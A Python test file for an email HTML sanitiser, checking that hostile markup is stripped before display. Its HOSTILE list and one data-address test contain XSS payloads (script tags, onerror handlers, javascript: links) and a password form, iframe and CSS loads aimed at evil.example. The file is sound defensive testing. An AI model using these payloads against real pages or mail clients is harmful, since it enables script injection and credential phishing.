"""Hostile mail, made safe to show."""

import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.markup import (
    Unshowable,
    called_pictures,
    data_address,
    from_text,
    sanitise,
)

MAILS = sorted((Path(__file__).parent.parent / "mails").glob("*.json"))
PIXEL = "data:image/png;base64,iVBORw0KGgo="
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>Entrar</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example) }</style>",
    '<p style="background:url(https://evil.example/x);position:fixed;top:0;color:red">x</p>',
    '<p style="background-image:url(https://evil.example/x)">x</p>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</table>',
    '<img srcset="https://evil.example/x 2x"><video poster="https://evil.example/x"></video>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    '<div id="app" class="toolbar" onclick="alert(1)">x</div>',
]
ALLOWED_ADDRESSES = ("http:", "https:", "mailto:", "tel:", "data:image/")


class Reader(HTMLParser):
    """What a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def harmless(html: str) -> bool:
    """Nothing runs, and nothing is fetched: what is left are words, their looks, and links."""
    found = Reader(html)
    dangerous = {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "base",
        "meta",
        "link",
        "svg",
    }
    return (
        not dangerous & set(found.tags)
        and not any(name.startswith("on") or name in ("id", "class") for _, name, _ in found.attributes)
        and all("url(" not in value for _, name, value in found.attributes if name == "style")
        and all(value.startswith("data:image/") for _, name, value in found.attributes if name == "src")
        and all(value.startswith(ALLOWED_ADDRESSES) for _, name, value in found.attributes if name == "href")
    )


def bodies() -> list[tuple[str, str]]:
    found = []
    for path in MAILS:
        for delivery in json.loads(path.read_text())["deliveries"]:
            body: dict[str, Any] = delivery["message"].get("body") or {}
            if (body.get("contentType") or "").lower() == "html":
                found.append((path.stem, body.get("content") or ""))
    return found


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_of_hostile_markup_acts(html: str) -> None:
    assert harmless(sanitise(html, {}, images=False).html)


@pytest.mark.parametrize(("name", "html"), bodies())
def test_the_nasty_mails_are_made_safe(name: str, html: str) -> None:
    assert harmless(sanitise(html, {}, images=False).html)


@given(st.lists(st.sampled_from([*HOSTILE, "<b>", "</b>", "<p>", "</table>", "<!--", "-->", "x", '"', "<"])))
def test_no_mixture_of_it_acts(pieces: list[str]) -> None:
    assert harmless(sanitise("".join(pieces), {}, images=False).html)


def test_words_and_their_looks_are_kept() -> None:
    html = '<table width="80%"><tr><td style="color: red" bgcolor="#eee"><b>303</b><br>ñ</td></tr></table>'

    assert sanitise(html, {}, images=False).html == (
        '<table width="80%"><tbody><tr><td style="color:red" bgcolor="#eee"><b>303</b><br>ñ</td></tr>'
        "</tbody></table>"
    )


def test_a_link_opens_a_window_that_knows_nothing_of_ours() -> None:
    safe = sanitise('<a href="https://sede.example">Sede</a>', {}, images=False).html

    assert {(name, value) for _, name, value in Reader(safe).attributes} == {
        ("href", "https://sede.example"),
        ("target", "_blank"),
        ("rel", "noopener noreferrer"),
    }


def test_pictures_from_elsewhere_are_held_back_and_counted() -> None:
    html = '<img src="https://a.example/1" alt="logo"><img src="http://a.example/2"><img src="cid:3">'

    safe = sanitise(html, {}, images=False)

    assert (safe.html, safe.blocked) == ('<img alt="logo"><img><img>', 2)


def test_with_leave_they_are_fetched_by_https_only() -> None:
    safe = sanitise('<img src="https://a.example/1"><img src="http://a.example/2">', {}, images=True)

    assert (safe.html, safe.blocked) == ('<img src="https://a.example/1"><img>', 1)


def test_pictures_of_the_mail_itself_are_shown() -> None:
    html = '<img src="cid:logo%40x"><img src="CID:other">'

    assert called_pictures(html) == {"logo@x", "other"}
    assert sanitise(html, {"logo@x": PIXEL}, images=False).html == f'<img src="{PIXEL}"><img>'


@pytest.mark.parametrize("kind", ["image/svg+xml", "text/html", "image/png;x", "", "image/x-icon"])
def test_what_is_no_picture_has_no_address(kind: str) -> None:
    expected = kind == "image/png;x"
    assert (data_address(kind, "AAAA") is not None) is expected


def test_what_is_no_base64_has_no_address() -> None:
    assert data_address("image/png", 'AAAA" onerror="alert(1)') is None


def test_plain_text_is_shown_as_it_is() -> None:
    assert from_text("a <b> & c") == '<div style="white-space: pre-wrap">a &lt;b&gt; &amp; c</div>'


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<p>" + "".join(f"<font color=#{n:06x}>" for n in range(2000)) + "</p>" + "<p>x</p>" * 20_000,
        "x" * 2_000_001,
    ],
    ids=["deep", "repeated", "long"],
)
def test_what_would_take_minutes_is_refused(html: str) -> None:
    with pytest.raises(Unshowable):
        sanitise(html, {}, images=False)


def test_a_long_newsletter_is_shown() -> None:
    html = (
        "<table><tr><td><table><tr><td>" + "<p><b>x</b><br>" * 10_000 + "</td></tr></table></td></tr></table>"
    )

    assert sanitise(html, {}, images=False).html.count("<b>") == 10_000
